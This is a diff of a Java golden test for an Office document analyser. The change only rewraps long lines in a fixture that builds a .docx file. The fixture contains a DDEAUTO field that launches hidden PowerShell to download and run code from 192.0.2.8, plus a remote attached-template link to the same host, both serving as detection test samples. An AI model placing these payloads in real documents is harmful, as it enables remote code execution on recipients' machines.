@@ -82,7 +82,10 @@ class OfficeGoldenTest {
                 JSON.writerWithDefaultPrettyPrinter().writeValueAsString(actual));
     }
 
-    /** What the golden file pins: verdict, and per node its name, origin, type, pinned findings and this family's facts. */
+    /**
+     * What the golden file pins: verdict, and per node its name, origin, type, pinned findings and
+     * this family's facts.
+     */
     private static JsonNode project(Report report) {
         ObjectNode root = JSON.createObjectNode();
         root.put("verdict", report.verdict().name().toLowerCase(java.util.Locale.ROOT));
@@ -153,34 +156,49 @@ class OfficeGoldenTest {
                 <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                 <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                 <Default Extension="xml" ContentType="application/xml"/>
-                <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
-                <Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
+                <Override PartName="/word/document.xml" \
+                ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
+                <Override PartName="/word/settings.xml" \
+                ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
                 </Types>"""));
         parts.put("_rels/.rels", OfficeFixtures.utf8("""
                 <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
-                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
+                <Relationship Id="rId1" \
+                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
+                Target="word/document.xml"/>
                 </Relationships>"""));
         parts.put("word/document.xml", OfficeFixtures.utf8("""
                 <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                 <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
                 <w:p><w:r><w:t>See https://example.com for details.</w:t></w:r></w:p>
-                <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -w hidden -c iex(iwr http://192.0.2.8/p)" </w:instrText></w:r>
-                <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!Unexpected End of Formula</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
+                <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO \
+                c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -w hidden -c iex(iwr http://192.0.2.8/p)" \
+                </w:instrText></w:r>
+                <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!Unexpected End of \
+                Formula</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
                 </w:body></w:document>"""));
         parts.put("word/_rels/document.xml.rels", OfficeFixtures.utf8("""
                 <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
-                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" Target="settings.xml"/>
-                <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com" TargetMode="External"/>
+                <Relationship Id="rId1" \
+                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings" \
+                Target="settings.xml"/>
+                <Relationship Id="rId2" \
+                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" \
+                Target="https://example.com" TargetMode="External"/>
                 </Relationships>"""));
         parts.put("word/settings.xml", OfficeFixtures.utf8("""
                 <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-                <w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>"""));
+                <w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" \
+                xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
+                <w:attachedTemplate r:id="rId1"/></w:settings>"""));
         parts.put("word/_rels/settings.xml.rels", OfficeFixtures.utf8("""
                 <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                 <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
-                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.8/normal.dotm" TargetMode="External"/>
+                <Relationship Id="rId1" \
+                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" \
+                Target="http://192.0.2.8/normal.dotm" TargetMode="External"/>
                 </Relationships>"""));
         return OfficeFixtures.zip(parts);
     }
